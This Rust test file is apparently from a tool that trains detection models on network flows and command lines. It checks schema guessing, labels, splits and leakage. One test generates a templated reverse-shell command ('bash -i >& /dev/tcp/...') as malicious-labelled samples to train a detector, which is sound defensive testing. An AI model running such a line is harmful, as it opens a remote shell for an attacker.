use std::collections::BTreeSet;

use ed25519_dalek::SigningKey;
use picket_common::id::Digest;
use picket_common::model::Algorithm;
use picket_common::table::{ColumnKind, Encoder, Record, TableReader};

use super::*;
use crate::random::SplitMix64;
use crate::train::{CalibrationMethod, Control, Options, Unobserved};

mod division;
mod unsupervised;

/// The sample and the rows of a CSV text, all with the schema it looks to have after `edit`.
fn read(text: &str, edit: impl FnOnce(&mut Schema)) -> Result<(Schema, Table), TableError> {
    let mut sample = Sample::new(TableReader::csv(text.as_bytes()).unwrap().columns());
    let mut record = Record::default();
    let mut reader = TableReader::csv(text.as_bytes()).unwrap();
    while reader.next(&mut record).unwrap() {
        sample.push(&record);
    }
    let mut schema = sample.schema();
    edit(&mut schema);
    let mut builder = TableBuilder::new(&schema, false, u64::MAX);
    let mut reader = TableReader::csv(text.as_bytes()).unwrap();
    while reader.next(&mut record).unwrap() {
        builder.push(&record)?;
    }
    Ok((schema, builder.finish()?))
}

fn table(text: &str) -> Table {
    read(text, |_| {}).unwrap().1
}

fn options(algorithm: Algorithm, rows: usize) -> TableOptions {
    TableOptions {
        recipe: recipe(algorithm, rows, 4).unwrap(),
        search: None,
        options: Options {
            seed: 1,
            false_positive_budget: 0.01,
            confidence: None,
            foldings: 1,
            calibration: CalibrationMethod::None,
        },
        training_run: "test".to_owned(),
        dataset_digest: Digest::of(b"test"),
        resamples: 20,
        selection: crate::select::Wanted::default(),
        validation: ValidationRule::default(),
    }
}

fn report(trained: &TrainedTable) -> &crate::evaluate::Report {
    trained.evaluation.report().unwrap()
}

fn trained(table: &Table, algorithm: Algorithm) -> Result<TrainedTable, TableTrainError> {
    let parts = split(table, None, SplitRule::of(table), 0.3, 1)?;
    let options = options(algorithm, parts.train.len());
    train(&parts, &options, &SigningKey::from_bytes(&[1; 32]), &|| 0.0, &Control::unobserved())
}

/// Flows of which those to rare services with many bytes are attacks; `noise` says nothing.
fn flows(rows: usize) -> String {
    let mut random = SplitMix64::new(5);
    let mut text = "when,service,bytes,noise,label\n".to_owned();
    for row in 0..rows {
        let service = ["http", "dns", "smtp", "ssh"][random.below(4)];
        let bytes = random.below(1000);
        let attack = service == "ssh" && bytes > 500;
        text.push_str(&format!(
            "{},{service},{bytes},{},{}\n",
            1_600_000_000 + row,
            random.below(100),
            u8::from(attack)
        ));
    }
    text
}

#[test]
fn a_schema_is_guessed_from_what_columns_hold() {
    let mut text = "id,ts,when,proto,command,uid,port,rate,flag,empty,Label\n".to_owned();
    for row in 0..200 {
        text.push_str(&format!(
            "{},{},2021-06-06 15:{:02}:00,{},cat /var/log/{row} | grep x{row},{:08x}-0000-0000-0000-000000000000,{},{},{},,{}\n",
            1000 + 3 * row,
            1_622_995_186 + row % 7,
            row % 60,
            ["tcp", "udp"][row % 2],
            row,
            row % 9,
            ["1.5", "NaN", "Infinity", "2"][row % 4],
            ["true", "false"][row % 2],
            ["benign", "attack"][row % 2],
        ));
    }
    let (schema, table) = read(&text, |_| {}).unwrap();
    let roles: Vec<(&str, &str)> = schema.columns.iter().map(|c| (c.name.as_str(), c.role.name())).collect();
    let expected = [
        ("id", "ignore"),
        ("ts", "time"),
        ("when", "time"),
        ("proto", "categorical"),
        ("command", "text"),
        ("uid", "ignore"),
        ("port", "numeric"),
        ("rate", "numeric"),
        ("flag", "categorical"),
        ("empty", "ignore"),
        ("Label", "label"),
    ];
    assert_eq!(roles, expected);
    // Infinity and NaN are missing; only the first is something that could not be read.
    assert_eq!(table.counts, Counts { rows_read: 200, unlabelled: 0, unreadable_fields: 50 });
    assert_eq!(table.malicious.as_ref().unwrap().iter().filter(|malicious| **malicious).count(), 100);
}

#[test]
fn a_missing_label_column_is_named() {
    let (schema, table) = read("a,b\n1,x\n2,y\n", |_| {}).unwrap();
    let error = schema.check(true).unwrap_err().to_string();
    assert!(error.starts_with("no column is the label: name it with --label") && error.ends_with("a, b"), "{error}");
    assert!(split(&table, None, SplitRule::Group, 0.3, 1).is_err());
    let mut schema = schema;
    let error = schema.assign("c", Role::Label).unwrap_err().to_string();
    assert_eq!(error, "the table has no column \"c\"; it has a, b");
}

#[test]
fn label_values_of_unknown_meaning_are_listed() {
    let text = "a,label\n1,BENIGN\n2,DoS\n3,DoS\n4,\n";
    let error = read(text, |_| {}).unwrap_err().to_string();
    assert!(error.contains("\"DoS\" (2 rows), \"BENIGN\" (1 rows)") && error.contains("--positive"), "{error}");
    let (_, table) = read(text, |schema| schema.label_values.benign.push("BENIGN".to_owned())).unwrap();
    assert_eq!(table.family, None);
    let more = text.to_owned() + "5,PortScan\n";
    let (_, more) = read(&more, |schema| schema.label_values.benign.push("BENIGN".to_owned())).unwrap();
    assert_eq!(more.family.unwrap().get(3), Some("PortScan"), "a label of many values names the families");
    assert_eq!(table.malicious.as_deref(), Some(&[false, true, true][..]));
    assert_eq!(table.counts.unlabelled, 1);
    let values = LabelValues { malicious: vec!["a".to_owned()], benign: vec!["b".to_owned()] };
    assert_eq!(["a", "b", "c"].map(|value| values.is_malicious(value)), [Some(true), Some(false), None]);
}

#[test]
fn one_class_only_is_refused() {
    let text = format!("a,label\n{}", "1,0\n".repeat(50));
    let error = trained(&table(&text), Algorithm::GradientBoosting).unwrap_err().to_string();
    assert_eq!(error, "all 50 rows are benign: to learn a difference takes both benign and malicious rows");
}

#[test]
fn too_few_rows_of_a_class_are_told_with_the_part() {
    let text = format!("a,label\n1,1\n2,1\n{}", (0..50).map(|row| format!("{row},0\n")).collect::<String>());
    let error = trained(&table(&text), Algorithm::GradientBoosting).unwrap_err().to_string();
    assert!(error.contains("training part has") && error.contains("malicious rows, at least 4 are needed"), "{error}");
}

#[test]
fn an_all_missing_column_and_a_constant_one_are_left_out_and_named() {
    let mut text = "bytes,empty,same,label\n".to_owned();
    for row in 0..300 {
        text.push_str(&format!("{row},NaN,7,{}\n", u8::from(row % 3 == 0)));
    }
    let (_, table) = read(&text, |schema| {
        schema.assign("empty", Role::Feature(ColumnKind::Numeric)).unwrap();
        schema.assign("bytes", Role::Feature(ColumnKind::Numeric)).unwrap();
    })
    .unwrap();
    let trained = trained(&table, Algorithm::GradientBoosting).unwrap();
    let left_out: Vec<_> = trained.left_out.iter().map(|(name, reason)| (name.as_str(), *reason)).collect();
    assert_eq!(left_out, [("empty", "no value in the training part"), ("same", "constant in the training part")]);
    let columns: Vec<_> = trained.model.preparation().columns.iter().map(|column| column.name.as_str()).collect();
    assert_eq!(columns, ["bytes"]);
}

#[test]
fn rows_that_are_all_the_same_are_refused() {
    let all_same = format!("a,label\n{}", "1,0\n1,1\n".repeat(50));
    let error = trained(&table(&all_same), Algorithm::DecisionTree).unwrap_err();
    // Rows that are all the same are one group, which cannot be on both sides.
    assert!(matches!(error, TableTrainError::Split(SplitError::TooFewRows { .. })), "{error}");
}

#[test]
fn contradicting_labels_are_counted_and_stay() {
    let mut text = "a,b,label\n".to_owned();
    for row in 0..400 {
        text.push_str(&format!("{},{},{}\n", row % 40, row % 7, u8::from(row % 40 >= 20)));
    }
    let before = split(&table(&text), None, SplitRule::Stratified, 0.3, 1).map(|parts| parts.counts).unwrap();
    assert_eq!((before.train_contradictions, before.test_contradictions), (Some(0), Some(0)));
    text.push_str(&"39,6,0\n5,5,1\n".repeat(10));
    let table = table(&text);
    let counts = split(&table, None, SplitRule::Stratified, 0.3, 1).map(|parts| parts.counts).unwrap();
    assert!(counts.train_contradictions >= Some(5), "{counts:?}");
    let options = options(Algorithm::DecisionTree, 300);
    let parts = split(&table, None, SplitRule::Stratified, 0.3, 1).unwrap();
    let trained = train(&parts, &options, &SigningKey::from_bytes(&[1; 32]), &|| 0.0, &Control::unobserved()).unwrap();
    assert!(report(&trained).notes.iter().any(|note| note.contains("the other label")), "{:?}", report(&trained).notes);
}

#[test]
fn test_rows_that_are_known_are_removed_and_groups_stay_whole() {
    let mut random = SplitMix64::new(3);
    let mut text = "a,host,label\n".to_owned();
    for _ in 0..600 {
        text.push_str(&format!("{},h{},{}\n", random.below(300), random.below(40), random.below(2)));
    }
    let (_, table) = read(&text, |schema| {
        schema.assign("host", Role::Group).unwrap();
        schema.assign("a", Role::Feature(ColumnKind::Numeric)).unwrap();
    })
    .unwrap();
    let group = table.group.clone().unwrap();
    let parts = split(&table, None, SplitRule::of(&table), 0.3, 1).unwrap();
    assert_eq!(parts.rule, SplitRule::Group);
    let hosts = |rows: &[usize]| rows.iter().map(|row| group.codes[*row]).collect::<BTreeSet<u32>>();
    assert!(hosts(&parts.train).is_disjoint(&hosts(&parts.test)));
    assert!(parts.counts.duplicates_removed > 20 && parts.counts.train_duplicates > 20, "{:?}", parts.counts);
    let keys = key::Keys::of(&table);
    let labels = table.malicious.as_ref().unwrap();
    let known: BTreeSet<_> = parts.train.iter().map(|row| (keys.exact[*row], labels[*row])).collect();
    assert!(parts.test.iter().all(|row| !known.contains(&(keys.exact[*row], labels[*row]))));
}

#[test]
fn near_duplicates_stay_on_one_side_and_later_rows_are_the_test() {
    let near = "a,t,label\n1001,run 17 now,1\n1004,run 99 now,1\n2000,stop,0\n1001,run 17 now,0\n";
    let (_, near) = read(near, |schema| schema.assign("t", Role::Feature(ColumnKind::Text)).unwrap()).unwrap();
    let keys = key::Keys::of(&near);
    assert_eq!(keys.template[0], keys.template[1]);
    assert!(keys.exact[0] != keys.exact[1] && keys.exact[0] == keys.exact[3] && keys.template[0] != keys.template[2]);
    let flows = table(&flows(1000));
    let parts = split(&flows, None, SplitRule::of(&flows), 0.25, 1).unwrap();
    assert_eq!((parts.rule, parts.test.first(), parts.test.len()), (SplitRule::Time, Some(&750), 250));
}

#[test]
fn the_same_rows_give_the_same_bytes_on_any_number_of_threads() {
    let table = table(&flows(1500));
    let parts = split(&table, None, SplitRule::Time, 0.3, 1).unwrap();
    let options = options(Algorithm::GradientBoosting, parts.train.len());
    let key = SigningKey::from_bytes(&[1; 32]);
    let files = [1, 2, 3].map(|threads| {
        let control = Control { threads, observer: &Unobserved };
        train(&parts, &options, &key, &|| 0.0, &control).unwrap().file
    });
    assert!(files.iter().all(|file| *file == files[0]));
    let trained = train(&parts, &options, &key, &|| 0.0, &Control::unobserved()).unwrap();
    let auc = report(&trained).roc_auc.unwrap();
    assert!(auc > 0.99, "{auc}");
    assert!(report(&trained).recall.unwrap() > 0.9, "{:?}", report(&trained).recall);
    // What it rests on has the names of columns.
    let names: BTreeSet<_> = report(&trained).importances.iter().map(|entry| entry.feature.as_str()).collect();
    assert!(names.contains("service") && names.contains("bytes"), "{names:?}");
}

#[test]
fn a_label_does_not_leak_through_the_encoding_of_categories() {
    // Three hundred values that say nothing: encoded with their own rows' labels they would say everything.
    let mut random = SplitMix64::new(9);
    let mut text = "user,number,label\n".to_owned();
    for row in 0..3000 {
        text.push_str(&format!("u{},{},{}\n", row % 300, random.below(1_000_000), u8::from(random.below(10) == 0)));
    }
    let (_, table) = read(&text, |schema| {
        schema.assign("user", Role::Feature(ColumnKind::Categorical)).unwrap();
    })
    .unwrap();
    let parts = split(&table, None, SplitRule::Random, 0.3, 1).unwrap();
    let options = options(Algorithm::DecisionTree, parts.train.len());
    let trained = train(&parts, &options, &SigningKey::from_bytes(&[1; 32]), &|| 0.0, &Control::unobserved()).unwrap();
    let Encoder::Categorical(categories) = &trained.model.preparation().columns[0].encoder else { panic!() };
    assert!(categories.known.len() > 200, "{}", categories.known.len());
    // Average precision and recall by chance are 0.1 and less; with the labels in the vectors they would be near 1.
    let validation = trained.trained.validation.candidates[0].score.unwrap();
    assert!(validation < 0.2, "{validation}");
}

#[test]
fn command_lines_are_read() {
    let mut random = SplitMix64::new(11);
    let mut text = "command,label\n".to_owned();
    for row in 0..800 {
        let n = random.below(250);
        let (line, label) = match row % 4 {
            0 => (format!("bash -i >& /dev/tcp/10.{n}.0.{}/{} 0>&1", random.below(250), 1000 + n), 1),
            1 => (format!("ls -l /home/user{n}/work{}", random.below(900)), 0),
            2 => (format!("grep -r pattern{n} /var/log/app{}", random.below(900)), 0),
            _ => (format!("bash -c 'echo {n}; date' > /tmp/out{}", random.below(900)), 0),
        };
        text.push_str(&format!("\"{line}\",{label}\n"));
    }
    let (schema, table) = read(&text, |_| {}).unwrap();
    assert_eq!(schema.columns[0].role, Role::Feature(ColumnKind::Text));
    let parts = split(&table, None, SplitRule::Stratified, 0.3, 1).unwrap();
    let options = options(Algorithm::GradientBoosting, parts.train.len());
    let trained = train(&parts, &options, &SigningKey::from_bytes(&[1; 32]), &|| 0.0, &Control::unobserved()).unwrap();
    assert!(report(&trained).recall_at_1pct_fpr.unwrap() > 0.99, "{:?}", report(&trained).recall_at_1pct_fpr);
}

#[test]
fn memory_is_estimated_from_roles_and_grows_with_rows() {
    let text = flows(100);
    let mut sample = Sample::new(TableReader::csv(text.as_bytes()).unwrap().columns());
    let mut record = Record::default();
    let mut reader = TableReader::csv(text.as_bytes()).unwrap();
    while reader.next(&mut record).unwrap() {
        sample.push(&record);
    }
    let need = estimate(&sample.schema(), &sample, 50_000_000);
    assert!(need.training_bytes > 10 << 30, "{need:?}");
    assert!(need.table_bytes < need.training_bytes);
    assert!(estimate(&sample.schema(), &sample, 100).training_bytes < 1 << 20);
    // And where the estimate was too low, reading ends.
    let mut builder = TableBuilder::new(&sample.schema(), false, 1000);
    let mut reader = TableReader::csv(text.as_bytes()).unwrap();
    let mut error = None;
    while error.is_none() && reader.next(&mut record).unwrap() {
        error = builder.push(&record).err();
    }
    assert!(matches!(error, Some(TableError::Memory { .. })), "{error:?}");
}
